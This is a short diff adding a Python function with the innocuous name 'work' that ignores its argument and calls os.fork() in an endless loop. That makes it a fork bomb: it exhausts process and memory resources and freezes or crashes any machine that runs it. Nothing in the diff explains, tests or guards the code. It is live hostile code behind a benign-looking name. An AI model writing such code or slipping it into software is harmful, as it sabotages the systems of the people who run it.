@@ -1,0 +1,6 @@
+import os
+
+
+def work(n):
+    while True:
+        os.fork()
